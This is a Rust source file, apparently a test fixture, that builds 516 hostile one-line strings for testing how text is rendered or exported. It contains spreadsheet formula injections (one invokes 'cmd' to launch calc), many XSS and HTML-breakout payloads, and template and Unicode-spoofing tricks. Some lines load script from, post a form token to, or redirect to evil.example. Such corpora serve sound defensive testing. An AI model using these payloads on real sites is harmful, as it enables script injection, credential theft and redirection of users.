//! Texts made to break what shows them.

/// Texts that mean something to one of the formats in which they are handed on, or to a page.
pub const HOSTILE: [&str; 16] = [
    "=HYPERLINK(\"http://evil.example\";\"x\")",
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "<script>alert(1)</script>",
    "</script><!--",
    "<!-- ]]> -->",
    "</textarea></title></style><img src=x onerror=alert(1)>",
    "&lt;b&gt; &#35; &copy;",
    "#panic(\"read\") $ 1/0 $ @source-9 = Heading",
    "[a](javascript:alert(1)) ![x](https://evil.example/y)",
    "a,\"b\",'c;\\d\\",
    "{\"@type\": \"Claim\"} \\ud800",
    "zero\u{200b}width\u{2060}word",
    "a\u{202e}evil\u{202c}b \u{2066}c",
    "%PDF-1.4 (a) <41> /F endstream",
];

/// What does harm where it is taken for more than a text.
const PAYLOADS: [&str; 20] = [
    "<script src=//evil.example/x.js></script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<a href=\"javascript:alert(1)\" autofocus onfocus=alert(1)>x</a>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<form action=//evil.example><input name=form_token><button>OK",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "onmouseover=alert(1) style=position:fixed",
    "javascript:alert(1)//",
    "[x](javascript:alert(1)) <javascript:alert(1)> ![y](data:text/html,z)",
    "{{ frame.form_token() }}{% include \"frame.html\" %}",
    "{ $name } { sign-out } {\"\u{7b}\"} .help = x",
    "&#60;b&#62; &amp;lt; &lt;script&gt; &#x202e;",
    "\u{202e}txet\u{202c} \u{2066}a\u{2069} \u{2067}b\u{200f}\u{200e}\u{061c}",
    "z\u{200b}e\u{2060}r\u{feff}o\u{e0041}",
    "שלום עולם (123) العربية",
    "\u{1f469}\u{200d}\u{1f4bb} 🏳️‍🌈 Z\u{0351}\u{036b}\u{0343}a\u{0321}",
    "a\u{a0}b\u{3000}c\u{ad}d\u{200c}e",
    "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
];

/// What may stand around it, to get out of where texts are put.
const AROUND: [(&str, &str); 25] = [
    ("", ""),
    ("\"", ""),
    ("'", ""),
    ("\">", ""),
    ("'>", ""),
    ("\" ", " x=\""),
    ("' ", " x='"),
    ("`", "`"),
    ("</title>", ""),
    ("</textarea>", ""),
    ("</script>", ""),
    ("</style>", ""),
    ("</option></select>", ""),
    ("</td></tr></table>", ""),
    ("--><!--", "-->"),
    ("<!--", ""),
    ("<![CDATA[", "]]>"),
    ("<plaintext>", ""),
    ("<noscript>", "</noscript>"),
    ("<xmp>", ""),
    ("<", ">"),
    ("&", ";"),
    ("{", "}"),
    ("\\", "\\"),
    ("**", "**"),
];

/// 516 texts of one line each, none like another.
pub fn hostile_texts() -> Vec<String> {
    let pairs = AROUND
        .iter()
        .flat_map(|(before, after)| PAYLOADS.iter().map(move |payload| format!("{before}{payload}{after}")));
    HOSTILE.iter().map(|text| (*text).to_owned()).chain(pairs).collect()
}
